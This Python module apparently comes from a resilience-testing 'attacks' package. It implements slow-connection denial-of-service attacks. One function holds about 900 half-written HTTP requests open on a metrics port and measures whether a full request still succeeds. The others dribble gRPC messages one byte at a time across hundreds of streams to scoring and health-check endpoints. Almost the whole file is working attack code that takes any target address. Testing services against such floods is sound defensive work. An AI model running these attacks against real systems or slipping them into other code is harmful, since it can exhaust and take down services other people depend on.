"""Peers that begin and do not end."""

import contextlib
import socket
import time
from typing import Any

from attacks.peer import CHECK, SCORE, Peer, connected, grpc_message

_PACE_S = 0.005
"""Time between two connections."""


def half_requests(metrics_address: str, connections: int = 900, hold_s: float = 6.0) -> dict[str, Any]:
    """Half-written HTTP requests on the metrics port, held open; meanwhile one whole request."""
    held: list[socket.socket] = []
    try:
        for _ in range(connections):
            with contextlib.suppress(OSError):
                held.append(connected(metrics_address))
                held[-1].sendall(b"GET /metrics HTTP/1.1\r\nHost: a\r\nX-Half: ")
            # A backlog of five that overflows costs a second; it is connections that are to be many, not attempts.
            time.sleep(_PACE_S)
        time.sleep(hold_s / 2)
        scraped_s = _scrape_s(metrics_address)
        time.sleep(hold_s / 2)
        still_open = sum(_open(each) for each in held)
    finally:
        for each in held:
            each.close()
    return {"connections": len(held), "still_open": still_open, "scraped_s": scraped_s}


def _scrape_s(address: str) -> float | None:
    """How long a whole request took; None when it was not answered."""
    started_s = time.monotonic()
    with contextlib.suppress(OSError), connected(address) as scraper:
        scraper.sendall(b"GET /metrics HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
        if scraper.recv(15).startswith(b"HTTP/1."):
            return round(time.monotonic() - started_s, 3)
    return None


def _open(held: socket.socket) -> bool:
    held.setblocking(False)
    try:
        return bool(held.recv(1 << 16))
    except BlockingIOError:
        return True
    except OSError:
        return False


def dribbled_checks(address: str, connections: int = 4, streams: int = 100, seconds: float = 14.0) -> dict[str, Any]:
    """The same with health checks, which whoever asks for liveness has to come past."""
    return dribbled_calls(address, connections, streams, seconds, CHECK)


def dribbled_calls(
    address: str, connections: int = 4, streams: int = 100, seconds: float = 14.0, method: str = SCORE
) -> dict[str, Any]:
    """Requests that arrive one byte every 100 ms, on many streams at once, and never end within the attack."""
    message = grpc_message(b"\x12\x7f" + b"a" * 127 + b"\x1a\x7f" + b"b" * 127)
    peers = [Peer(address) for _ in range(connections)]
    started_s = time.monotonic()
    try:
        opened = [(peer, peer.open_call(method)) for peer in peers for _ in range(streams)]
        for number in range(min(len(message) - 1, int(10 * seconds))):
            for peer, stream in opened:
                if not peer.calls[stream].ended:
                    peer.send_data(stream, message[number : number + 1], end=False, timeout_s=0.05)
            for peer in peers:
                peer.read_until(lambda: False, 0.001)
            time.sleep(max(0.0, started_s + (number + 1) / 10 - time.monotonic()))
            if time.monotonic() > started_s + seconds:
                break
        outcomes: dict[str, int] = {}
        for peer in peers:
            for outcome, calls in peer.outcomes().items():
                outcomes[outcome] = outcomes.get(outcome, 0) + calls
        return {"streams": len(opened), "closed": sum(peer.closed for peer in peers), "outcomes": outcomes}
    finally:
        for peer in peers:
            peer.__exit__()
